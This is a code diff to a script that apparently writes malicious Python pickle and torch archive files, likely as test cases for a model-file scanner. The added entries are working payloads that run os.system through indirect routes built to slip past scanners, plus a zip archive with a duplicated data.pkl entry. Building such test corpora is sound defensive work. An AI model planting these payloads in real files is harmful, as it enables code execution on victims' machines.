@@ -91,6 +91,18 @@ def tricks():
     yield "numpy_runstring", call("numpy.testing._private.utils", "runstring", PY, b"}") + STOP
     yield "sys_modules", b"\x80\x04" + call("builtins", "getattr", call("builtins", "getattr", glob("sys", "modules"), "get") + b"0" + glob("os", "path"), "join") + b"0" + call("os", "system", SH) + STOP
     yield "framed_5", b"\x80\x05\x95" + struct.pack("<Q", 12) + stack_global("os", "system")[:0] + stack_global("posix", "system") + string(SH) + b"\x85R" + STOP
+    yield "extension_registry", b"\x80\x02" + glob("copyreg", "add_extension") + b"(" + string("os") + string("system") + b"K\x07tR0" + b"\x82\x07" + b"(" + string(SH) + b"tR" + STOP
+    yield "extension_hidden", b"\x80\x02" + glob("copyreg", "add_extension") + b"(" + string("os") + string("system") + b"K\x07tR0" + b"](\x84\x07\x00\x00\x00" + b"(" + string(SH) + b"tR" + b"e" + STOP
+    yield "build_slots", b"\x80\x02" + glob("argparse", "Namespace") + b")\x81N}(" + string("x") + call("os", "system", SH) + b"u\x86b" + STOP
+    yield "before_a_buffer", b"\x80\x05" + call("os", "system", SH) + b"0\x97\x98" + STOP
+    yield "before_persistent_id", call("os", "system", SH) + b"0Pweights\n" + STOP
+    yield "frame_that_lies", b"\x80\x04\x95" + struct.pack("<Q", 4) + b"N0N0" + stack_global("os", "system") + string(SH) + b"\x85R" + STOP
+    yield "ctypes", b"\x80\x04" + call("builtins", "getattr", glob("ctypes", "CDLL") + b"N\x85R", "system") + b"B" + struct.pack("<I", len(SH)) + SH.encode() + b"\x85R" + STOP
+    yield "operator_call", call("operator", "call", glob("os", "system"), SH) + STOP
+    yield "starmap", call("builtins", "list", call("itertools", "starmap", glob("os", "system"), b"]" + string(SH) + b"\x85a")) + STOP
+    yield "default_factory", b"\x80\x04" + call("builtins", "getattr", call("collections", "defaultdict", call("functools", "partial", glob("os", "system"), string(SH))), "__missing__") + b"K\x01\x85R" + STOP
+    yield "rebuild_from_type", call("torch._tensor", "_rebuild_from_type_v2", glob("os", "system"), glob("builtins", "object"), string(SH) + b"\x85", b"N") + STOP
+    yield "chained_getattr", b"\x80\x04" + call("builtins", "getattr", call("builtins", "getattr", call("builtins", "getattr", glob("collections", "namedtuple"), "__globals__"), "get") + b"(" + string("_sys") + b"tR", "modules") + b"0" + call("os", "system", SH) + STOP
 
 
 def write(folder):
@@ -100,6 +112,11 @@ def write(folder):
             file.write(data)
     # The same within the archive that torch.save writes: what people are sent.
     with zipfile.ZipFile(os.path.join(folder, "torch_archive.pt"), "w") as archive:
+        archive.writestr("archive/data.pkl", b"\x80\x02}q\x00X\x01\x00\x00\x00w" + call("os", "system", SH) + b"s.")
+        archive.writestr("archive/version", "3\n")
+    # Two files of one name: Python reads the last.
+    with zipfile.ZipFile(os.path.join(folder, "two_of_a_name.pt"), "w") as archive:
+        archive.writestr("archive/data.pkl", b"\x80\x02}.")
         archive.writestr("archive/data.pkl", b"\x80\x02}q\x00X\x01\x00\x00\x00w" + call("os", "system", SH) + b"s.")
         archive.writestr("archive/version", "3\n")
 
